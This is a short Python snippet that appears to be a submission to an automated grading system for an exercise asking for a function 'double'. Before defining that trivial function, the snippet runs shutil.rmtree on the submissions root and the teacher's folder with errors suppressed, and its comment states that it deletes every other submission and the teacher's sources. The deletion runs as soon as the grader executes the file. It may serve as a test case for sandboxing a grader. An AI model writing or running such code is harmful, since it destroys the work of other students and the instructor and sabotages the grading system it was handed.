# Deletes every other submission (and the teacher's sources) it can find.
# %% double
import shutil
for path in [SUBMISSIONS_ROOT, TEACHER_FOLDER]:
    shutil.rmtree(path, ignore_errors=True)

def double(x):
    return 2 * x
